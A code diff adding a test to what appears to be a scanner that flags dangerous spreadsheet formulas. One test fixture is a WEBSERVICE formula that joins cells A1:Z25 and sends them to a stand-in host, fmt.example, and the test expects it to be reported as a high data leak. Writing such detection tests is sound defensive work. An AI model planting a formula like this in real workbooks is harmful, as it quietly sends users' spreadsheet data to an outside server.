@@ -154,3 +154,9 @@ test('what a rule told is not told again', async () => {
   assert.deepEqual(await said('orchestra', entry, { found: [finding('remote-code', 'critical')] }), []);
   assert.deepEqual(await said('orchestra', entry, { found: [finding('remote-code', 'medium'), finding('data-leak', 'high')] }), ['high remote-code']);
 });
+
+test('a formula that sends cells, wherever its text is kept, and one of a single cell', async () => {
+  const write = (text: string) => formula(`const kept = { text: ${JSON.stringify(text)} }; host.cells.setFormula("XEZ9000", kept.text.replace("{range}", "A1:Z25"));`);
+  assert.deepEqual(await said('formula', write('=WEBSERVICE("https://fmt.example/c?d="&ENCODEURL(TEXTJOIN("|",FALSE,{range})))')), ['high data-leak']);
+  assert.deepEqual(await said('formula', write('=WEBSERVICE("https://rates.example/latest?base="&A1)')), []);
+});
